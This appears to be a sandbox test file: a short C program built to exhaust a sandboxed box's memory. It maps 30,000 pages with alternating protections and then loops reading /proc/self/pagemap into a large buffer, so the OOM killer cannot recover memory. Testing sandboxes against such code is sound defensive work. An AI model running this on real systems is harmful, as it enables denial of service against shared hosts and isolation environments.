// Fills its memory by one long call, which no kill interrupts, and has many mappings, whose kernel data is freed last.
// Until then no memory is left for the box, and there is no other process to kill.
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
    const size_t room = 128 << 20;
    for (int i = 0; i < 30000; ++i) {
        mmap(0, 4096, i % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    }
    char* const into = mmap(0, room, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    for (;;) {
        const int pages = open("/proc/self/pagemap", O_RDONLY);
        if (read(pages, into, room) < 0) {
            return 1;
        }
        close(pages);
    }
}
